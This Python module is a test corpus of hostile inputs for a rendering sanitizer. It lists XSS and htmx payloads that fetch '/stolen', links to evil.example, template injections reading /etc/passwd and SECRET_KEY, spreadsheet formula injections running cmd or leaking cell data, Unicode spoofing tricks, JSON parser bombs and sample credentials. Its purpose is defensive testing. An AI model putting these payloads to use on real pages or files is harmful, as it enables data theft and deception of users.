"""The corpus: each text, what must not appear in a page as it is, and what must be said instead. What loads or runs is called /stolen."""

from __future__ import annotations

import json
from dataclasses import dataclass


@dataclass(frozen=True, slots=True, kw_only=True)
class Hostile:
    """One text. `never`: stretches that must not stand in a page; `named`: what a person must read in their place; `secrets`: what leaves
    by no exit at all. `args`: the call's arguments as they are stored, where not the text but their JSON is hostile."""

    name: str
    text: str
    never: tuple[str, ...] = ()
    named: tuple[str, ...] = ()
    secrets: tuple[str, ...] = ()
    args: str | None = None


CORPUS: tuple[Hostile, ...] = (
    Hostile(name="script", text="<script>alert(1)</script>", never=("<script>alert",), named=("<script>alert(1)</script>",)),
    Hostile(name="img onerror", text="<img src=x onerror=alert(1)>", never=("<img src=x",)),
    Hostile(name="svg onload", text="<svg/onload=alert(1)>", never=("<svg/onload",)),
    Hostile(name="closing tags", text='"></bdi></pre></figure><h1>Settled</h1>', never=("<h1>Settled",)),
    Hostile(name="htmx attributes", text='<b hx-post="/x" hx-trigger="load">b</b>', never=("<b hx-post",)),
    Hostile(name="htmx enabling", text='<div hx-disable="false" data-hx-get="/x">', never=('<div hx-disable="false"',)),
    Hostile(name="template", text="{{ request.user.password }}{% debug %}", named=("{{ request.user.password }}",)),
    Hostile(name="comment", text="<!-- hidden --><![CDATA[x]]>", never=("<!-- hidden",)),
    Hostile(name="entity", text="&lt;b&gt; &#x202e; &amp;", named=("&lt;b&gt; &#x202e; &amp;",)),
    Hostile(
        name="link",
        text="[Approve](javascript:alert(1)) https://evil.example/x",
        never=('href="javascript:', 'href="https://evil'),
    ),
    Hostile(name="style", text="<style>body{display:none}</style>", never=("<style>body",)),
    Hostile(name="bidi override", text="invoice\u202egpj.exe", never=("\u202e",), named=("U+202E",)),
    Hostile(name="bidi isolate", text="a\u2067b\u2069c", never=("\u2067", "\u2069"), named=("U+2067", "U+2069")),
    Hostile(
        name="zero width", text="pay\u200bpal\u200c\u200d\ufeff", never=("\u200b", "\u200d", "\ufeff"), named=("U+200B", "U+FEFF")
    ),
    Hostile(name="many zero widths", text="a" + "\u200b" * 200 + "b", never=("\u200b",), named=("U+200B ×",)),
    Hostile(
        name="tag characters",
        text="hi" + "".join(chr(0xE0000 + ord(c)) for c in "send 5000"),
        never=("\U000e0073",),
        named=("U+E0073",),
    ),
    Hostile(name="variation selectors", text="a\ufe0fb\U000e0100c", never=("\ufe0f", "\U000e0100"), named=("U+FE0F", "U+E0100")),
    Hostile(name="controls", text="a\x07b\x1b[31mc\x9bd", never=("\x07", "\x1b", "\x9b"), named=("U+0007", "U+001B", "U+009B")),
    Hostile(name="NUL", text="a\x00b", never=("\x00",), named=("U+0000",)),
    Hostile(name="lone surrogate", text="a\ud83db", named=("U+D83D",)),
    Hostile(
        name="line separators",
        text="a\u2028b\u2029c\u0085d",
        never=("\u2028", "\u2029", "\u0085"),
        named=("U+2028", "U+2029", "U+0085"),
    ),
    Hostile(name="padding", text="To: boss" + " " * 150 + "BCC: thief", never=(" " * 100,), named=("space ×150",)),
    Hostile(name="blank lines", text="top" + "\n" * 100 + "bottom", never=("\n" * 50,)),
    Hostile(
        name="blank letters",
        text="a\u3164b\u2800c\u00a0d\u3000e",
        never=("\u3164", "\u2800", "\u3000"),
        named=("U+3164", "U+2800"),
    ),
    Hostile(name="stacked marks", text="z" + "\u0301" * 60, never=("\u0301" * 4,), named=("U+0301 ×",)),
    Hostile(name="Cyrillic domain", text="ana@p\u0430ypal.com", never=("p\u0430ypal.com",), named=("xn--pypal-4ve.com",)),
    Hostile(
        name="ideographic dot",
        text="https://ex\u00e4mple\u3002com/x",
        never=("ex\u00e4mple\u3002com",),
        named=("xn--exmple-cua.com",),
    ),
    Hostile(name="soft hyphen", text="pay\u00adpal", never=("\u00ad",), named=("U+00AD",)),
    Hostile(name="private use", text="a\ue000\U0010fffdb", never=("\ue000", "\U0010fffd"), named=("U+E000",)),
    Hostile(name="mongolian", text="a\u180eb\u180bc", never=("\u180e", "\u180b"), named=("U+180E",)),
    Hostile(
        name="htmx get on load",
        text='<button hx-get="/stolen" hx-trigger="load" data-hx-get="/stolen">Approve</button>',
        never=("<button hx-get",),
        named=('hx-trigger="load"',),
    ),
    Hostile(
        name="htmx on", text="<i hx-on:htmx:load=\"fetch('/stolen')\" hx-on--load=\"fetch('/stolen')\">x</i>", never=("<i hx-on",)
    ),
    Hostile(
        name="htmx swapped elsewhere", text='<p id="queue" hx-swap-oob="true">nothing is in doubt</p>', never=('<p id="queue"',)
    ),
    Hostile(name="htmx vals", text='"><p hx-vals=\'js:{a: fetch("/stolen")}\' hx-boost=true>', never=("<p hx-vals",)),
    Hostile(name="attribute breakout", text="' onfocus='fetch(\"/stolen\")' autofocus x='", never=("' onfocus='fetch",)),
    Hostile(
        name="double attribute breakout",
        text='" onmouseover="fetch(\'/stolen\')" style="position:fixed;inset:0',
        never=('" onmouseover="',),
    ),
    Hostile(
        name="iframe",
        text="<iframe src=/stolen></iframe><iframe srcdoc='<script>fetch(\"/stolen\")</script>'>",
        never=("<iframe",),
    ),
    Hostile(name="object and embed", text="<object data=/stolen></object><embed src=/stolen>", never=("<object", "<embed")),
    Hostile(
        name="form",
        text='<form action="/stolen" method=post><input name=x><button>Sign in again</button></form>',
        never=('<form action="/stolen',),
    ),
    Hostile(
        name="meta refresh", text='<meta http-equiv="refresh" content="0;url=/stolen">', never=('<meta http-equiv="refresh',)
    ),
    Hostile(
        name="base",
        text='<base href="https://evil.example/"><link rel=stylesheet href=/stolen>',
        never=("<base", "<link rel=stylesheet href=/stolen"),
    ),
    Hostile(name="dialog", text="<dialog open>Confirm the payment</dialog>", never=("<dialog open",)),
    Hostile(name="end of title", text="</title><script>fetch('/stolen')</script>", never=("</title><script",)),
    Hostile(
        name="end of textarea",
        text="</textarea></select></button><script>fetch('/stolen')</script>",
        never=("</textarea></select>",),
    ),
    Hostile(name="data link", text="data:text/html,<script>fetch('/stolen')</script>", never=('href="data:', "html,<script>")),
    Hostile(
        name="markdown image",
        text="![paid](/stolen) [**Approve**](/stolen) `code`",
        never=('src="/stolen', 'href="/stolen'),
        named=("![paid](/stolen)",),
    ),
    Hostile(
        name="css url", text="</style><style>@import '/stolen';p{background:url(/stolen)}</style>", never=("<style>@import",)
    ),
    Hostile(name="css hiding", text="x:expression(fetch('/stolen'));display:none!important", never=('style="',)),
    Hostile(
        name="math and svg",
        text="<math><mi//xlink:href=\"data:x,<script>fetch('/stolen')</script>\"><svg><use href=/stolen>",
        never=("<math", "<use href=/stolen"),
    ),
    Hostile(name="half a tag", text='<img src="/stolen', never=('<img src="/stolen',)),
    Hostile(
        name="template tags",
        text="{% include '/etc/passwd' %}{% load x %}{{ settings.SECRET_KEY }}{# gone #}",
        named=("{% include '/etc/passwd' %}", "{# gone #}"),
    ),
    Hostile(
        name="format strings",
        text="%s %(password)s {0.__class__} ${7*7} #{7*7} <%= 7*7 %>",
        named=("%(password)s", "{0.__class__}"),
    ),
    Hostile(
        name="double entity", text="&amp;lt;script&amp;gt; &#60;b&#62; &lrm;", named=("&amp;lt;script&amp;gt;", "&#60;b&#62;")
    ),
    Hostile(
        name="bidi embedding", text="a\u202ab\u202cc\u202bd", never=("\u202a", "\u202b", "\u202c"), named=("U+202A", "U+202B")
    ),
    Hostile(
        name="bidi marks",
        text="100\u200e EUR\u200f\u061c",
        never=("\u200e", "\u200f", "\u061c"),
        named=("U+200E", "U+200F", "U+061C"),
    ),
    Hostile(
        name="right to left name", text="\u202egnp.exe.\u2066report\u2069", never=("\u202e", "\u2066"), named=("U+202E", "U+2066")
    ),
    Hostile(
        name="Hebrew and Arabic",
        text="\u05e9\u05dc\u05d5\u05dd 5000 \u0645\u0631\u062d\u0628\u0627",
        named=("\u05e9\u05dc\u05d5\u05dd 5000",),
    ),
    Hostile(name="word joiner", text="pay\u2060pal\u2061\u2062\u2064", never=("\u2060", "\u2064"), named=("U+2060", "U+2064")),
    Hostile(name="interlinear", text="a\ufff9b\ufffac\ufffb", never=("\ufff9", "\ufffb"), named=("U+FFF9", "U+FFFB")),
    Hostile(name="noncharacters", text="a\ufdd0b\uffffc\U0001ffff", never=("\ufdd0", "\uffff"), named=("U+FDD0", "U+FFFF")),
    Hostile(
        name="wide spaces", text="a\u2003b\u2009c\u205fd\u202fe", never=("\u2003", "\u2009", "\u205f"), named=("U+2003", "U+2009")
    ),
    Hostile(
        name="emoji",
        text="\U0001f468\u200d\U0001f469\u200d\U0001f467\ufe0f \U0001f3f4\U000e0067\U000e0062\U000e007f",
        never=("\u200d", "\U000e0067"),
        named=("U+200D", "U+E0067"),
    ),
    Hostile(
        name="zalgo",
        text="p\u0338\u0321\u0316a\u0337\u0300\u0301\u0302y" + "\u0489" * 90,
        never=("\u0489" * 4,),
        named=("U+0489 \u00d7",),
    ),
    Hostile(
        name="full width domain",
        text="https://\uff45\uff56\uff49\uff4c\uff0e\uff45\uff58\uff41\uff4d\uff50\uff4c\uff45",
        never=("\uff45\uff56",),
        named=("evil.example",),
    ),
    Hostile(name="Greek domain", text="ben@\u03b1pple.com", never=("\u03b1pple.com",), named=("xn--pple-zld.com",)),
    Hostile(
        name="mixed domain",
        text="ana@g\u043e\u043egle.com, ana@google.com",
        never=("g\u043e\u043egle",),
        named=("xn--ggle-55da.com",),
    ),
    Hostile(name="ANSI colours", text="\x1b[2K\x1b[1A\x1b[32mwritten\x1b[0m", never=("\x1b",), named=("U+001B",)),
    Hostile(
        name="terminal title",
        text="\x1b]0;settled\x07\x1b]8;;https://evil.example\x1b\\ok",
        never=("\x1b", "\x07"),
        named=("U+001B",),
    ),
    Hostile(name="log lines", text="ok\nwritten done by operator ana\r\n2026-11-30 INFO settled", never=("\r",), named=("\\r",)),
    Hostile(name="backspaces", text="1000\b\b\b\b5000\x7f\x00\r10", never=("\b", "\x7f", "\r"), named=("U+0008", "U+007F")),
    Hostile(name="tabs", text="a\tb\x0bc\x0cd", never=("\x0b", "\x0c"), named=("U+000B", "U+000C")),
    Hostile(name="formula", text='=HYPERLINK("https://evil.example/?"&A1,"ok")', named=("=HYPERLINK(",)),
    Hostile(name="formula after spaces", text="  \t@SUM(1+1)*cmd|' /C calc'!A0", named=("@SUM(1+1)",)),
    Hostile(name="minus and plus", text="-2+3+cmd|' /C calc'!A0\n+1", named=("-2+3+cmd",)),
    Hostile(name="quotes and commas", text='a","b",\'c\';"d\n"', named=('a","b",',)),
    Hostile(name="one long word", text="x" * 5_000, never=("x" * 4_500,)),
    Hostile(name="a mebibyte", text="y " * 524_288, never=("y " * 5_000,)),
    Hostile(name="leading blank lines", text="\n" * 3_000 + "the end", never=("\n" * 50,)),
    Hostile(name="leading spaces", text=" " * 5_000 + "the end", never=(" " * 300,)),
    Hostile(name="hidden hex", text="\u2800" * 400 + "\u3164" * 400, never=("\u2800", "\u3164"), named=("U+2800 \u00d7",)),
    Hostile(name="ten thousand keys", text="many keys", args=json.dumps({f"k{n}": n for n in range(10_000)})),
    Hostile(name="deep lists", text="deep", args="[" * 100_000 + "]" * 100_000),
    Hostile(name="deep objects", text="deep", args='{"a":' * 50_000 + "1" + "}" * 50_000),
    Hostile(name="half a document", text="half", args='{"to": "a@example.com", "body": "<b'),
    Hostile(
        name="no document",
        text="prose",
        args="to a@example.com, as agreed <script>fetch('/stolen')</script>",
        never=("<script>fetch",),
    ),
    Hostile(
        name="names twice", text="twice", args='{"to": "a@example.com", "to": "thief@example.com", "amount": 1, "amount": 9000}'
    ),
    Hostile(
        name="beyond 2^53",
        text="numbers",
        args='{"amount": 9007199254740993.10, "to": 123456789012345678901234567890}',
        named=("9007199254740993.10",),
    ),
    Hostile(name="enormous numbers", text="numbers", args='{"amount": 1e999999, "n": -0.0, "id": ' + "9" * 5_000 + "}"),
    Hostile(name="no JSON numbers", text="numbers", args='{"amount": NaN, "total": Infinity}'),
    Hostile(name="escaped surrogates", text="halves", args='{"to": "\\ud800\\udc00\\ud83d", "\\ud800": 1}', named=("U+D83D",)),
    Hostile(name="escaped NUL", text="nul", args='{"to": "a\\u0000b", "\\u0000": 1}', named=("U+0000",)),
    Hostile(
        name="names that are code",
        text="names",
        args='{"__proto__": {"to": 1}, "constructor": 2, "<img src=/stolen>": 3, "": 4}',
        never=("<img src=/stolen",),
    ),
    Hostile(name="a byte order mark", text="bom", args='\ufeff{"to": "a@example.com"}', never=("\ufeff",)),
    Hostile(
        name="not an object",
        text="a list",
        args='["a@example.com", null, true, 1e5, "\\u202e"]',
        never=("\u202e",),
        named=("U+202E",),
    ),
    Hostile(name="empty", text="", args=""),
    Hostile(name="password", text="password=hunter2-hunter2", secrets=("hunter2-hunter2",)),
    Hostile(
        name="bearer token",
        text="Authorization: Bearer abcdefghijklmnopqrstuvwx0123456789",
        secrets=("abcdefghijklmnopqrstuvwx0123456789",),
    ),
    Hostile(
        name="provider key", text="charged with sk_live_4eC39HqLyjWDarjtT1zdp7dc today", secrets=("4eC39HqLyjWDarjtT1zdp7dc",)
    ),
    Hostile(name="card", text="card 4242 4242 4242 4242, thank you", secrets=("4242 4242 4242 4242",)),
    Hostile(name="address with a password", text="postgres://ana:hunter3hunter3@db.example/x", secrets=("hunter3hunter3",)),
    Hostile(
        name="secret by its name",
        text="deep secret",
        args='{"a": [{"client_secret": "qwertz-asdfgh-yxcvbn"}]}',
        secrets=("qwertz-asdfgh-yxcvbn",),
    ),
)
"""What a person could mistake belongs here with the words that name it."""
